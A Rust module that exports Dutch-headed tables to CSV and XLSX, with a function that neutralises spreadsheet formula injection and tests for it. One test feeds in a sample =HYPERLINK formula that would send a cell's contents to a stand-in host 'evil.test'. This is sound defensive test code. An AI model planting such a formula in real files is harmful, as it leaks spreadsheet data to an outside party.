//! Exports: every list as a table with Dutch headers, written as CSV (`;`,
//! UTF-8 with BOM so Excel reads the accents, dates dd-mm-jjjj) or XLSX
//! (real numbers and dates formatted dd-mm-jjjj).

use crate::error::{AppError, AppResult};
use chrono::{Datelike, NaiveDate};
use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};

#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Int(i64),
    Num(f64),
    Date(NaiveDate),
    Empty,
}

impl From<&str> for Cell {
    fn from(s: &str) -> Self {
        Cell::Text(s.to_string())
    }
}
impl From<String> for Cell {
    fn from(s: String) -> Self {
        Cell::Text(s)
    }
}
impl From<i32> for Cell {
    fn from(n: i32) -> Self {
        Cell::Int(i64::from(n))
    }
}
impl From<i64> for Cell {
    fn from(n: i64) -> Self {
        Cell::Int(n)
    }
}
impl From<NaiveDate> for Cell {
    fn from(d: NaiveDate) -> Self {
        Cell::Date(d)
    }
}
impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(v: Option<T>) -> Self {
        v.map_or(Cell::Empty, Into::into)
    }
}
impl From<f64> for Cell {
    fn from(n: f64) -> Self {
        Cell::Num(n)
    }
}

/// One worksheet.
#[derive(Debug, Clone, PartialEq)]
pub struct Sheet {
    /// Worksheet name (at most 31 characters) and file name stem.
    pub title: String,
    pub headers: Vec<&'static str>,
    pub rows: Vec<Vec<Cell>>,
}

/// Text a spreadsheet would run as a formula (`= + - @`, or a leading tab or
/// CR) gets a leading apostrophe, so it shows as the text it is.
fn defused(s: &str) -> String {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{s}"),
        _ => s.to_string(),
    }
}

fn csv_text(c: &Cell) -> String {
    match c {
        Cell::Text(s) => defused(s),
        Cell::Int(n) => n.to_string(),
        // Dutch decimal comma.
        Cell::Num(n) => format!("{n}").replace('.', ","),
        Cell::Date(d) => d.format("%d-%m-%Y").to_string(),
        Cell::Empty => String::new(),
    }
}

/// The sheets one after another, each with its title line, separated by an empty line.
pub fn to_csv(sheets: &[Sheet]) -> AppResult<Vec<u8>> {
    let mut w = csv::WriterBuilder::new().delimiter(b';').flexible(true).from_writer(Vec::from("\u{feff}".as_bytes()));
    let err = |e: csv::Error| AppError::Internal(anyhow::anyhow!(e));
    for (i, s) in sheets.iter().enumerate() {
        if sheets.len() > 1 {
            if i > 0 {
                w.write_record([""]).map_err(err)?;
            }
            w.write_record([s.title.as_str()]).map_err(err)?;
        }
        w.write_record(&s.headers).map_err(err)?;
        for r in &s.rows {
            w.write_record(r.iter().map(csv_text)).map_err(err)?;
        }
    }
    w.into_inner().map_err(|e| AppError::Internal(anyhow::anyhow!(e.to_string())))
}

/// A workbook with one worksheet per sheet: bold headers, frozen header row.
pub fn to_xlsx(sheets: &[Sheet]) -> AppResult<Vec<u8>> {
    let x = |e: rust_xlsxwriter::XlsxError| AppError::Internal(anyhow::anyhow!(e));
    let mut wb = Workbook::new();
    let bold = Format::new().set_bold();
    let date = Format::new().set_num_format("dd-mm-yyyy");
    for s in sheets {
        let ws = wb.add_worksheet();
        let name: String = s.title.chars().filter(|c| !"[]:*?/\\".contains(*c)).take(31).collect();
        ws.set_name(name).map_err(x)?;
        for (c, h) in s.headers.iter().enumerate() {
            let col = u16::try_from(c).map_err(|e| AppError::Internal(e.into()))?;
            ws.write_string_with_format(0, col, *h, &bold).map_err(x)?;
            ws.set_column_width(col, (h.chars().count() + 4).max(12) as f64).map_err(x)?;
        }
        ws.set_freeze_panes(1, 0).map_err(x)?;
        for (r, row) in s.rows.iter().enumerate() {
            let rn = u32::try_from(r + 1).map_err(|e| AppError::Internal(e.into()))?;
            for (c, cell) in row.iter().enumerate() {
                let cn = u16::try_from(c).map_err(|e| AppError::Internal(e.into()))?;
                match cell {
                    Cell::Text(t) => {
                        ws.write_string(rn, cn, t).map_err(x)?;
                    }
                    Cell::Int(n) => {
                        ws.write_number(rn, cn, *n as f64).map_err(x)?;
                    }
                    Cell::Num(n) => {
                        ws.write_number(rn, cn, *n).map_err(x)?;
                    }
                    Cell::Date(d) => {
                        let m = u8::try_from(d.month()).unwrap_or(1);
                        let day = u8::try_from(d.day()).unwrap_or(1);
                        let y = u16::try_from(d.year()).unwrap_or(1900);
                        let dt = ExcelDateTime::from_ymd(y, m, day).map_err(x)?;
                        ws.write_date_with_format(rn, cn, &dt, &date).map_err(x)?;
                    }
                    Cell::Empty => {}
                }
            }
        }
    }
    wb.save_to_buffer().map_err(x)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_come_out_as_text() {
        assert_eq!(defused("=HYPERLINK(\"http://evil.test/?\"&A1,\"klik\")"), "'=HYPERLINK(\"http://evil.test/?\"&A1,\"klik\")");
        for s in ["+1", "-2", "@SUM(A1)", "\tx", "\rx"] {
            assert!(defused(s).starts_with('\''), "{s}");
        }
        assert_eq!(defused("Anne Frijns"), "Anne Frijns");
        assert_eq!(csv_text(&Cell::Int(-3)), "-3", "numbers stay numbers");
    }

    #[test]
    fn csv_uses_semicolons_dutch_dates_and_decimal_commas() {
        let s = Sheet {
            title: "Test".into(),
            headers: vec!["Naam", "Getraind op", "Uren", "Aantal"],
            rows: vec![vec!["Sanne; W.".into(), NaiveDate::from_ymd_opt(2026, 4, 14).into(), 12.5.into(), 3.into()], vec![Cell::Empty, None::<NaiveDate>.into(), Cell::Empty, Cell::Empty]],
        };
        let out = String::from_utf8(to_csv(&[s]).expect("csv")).expect("utf8");
        assert_eq!(out, "\u{feff}Naam;Getraind op;Uren;Aantal\n\"Sanne; W.\";14-04-2026;12,5;3\n;;;\n");
    }
}
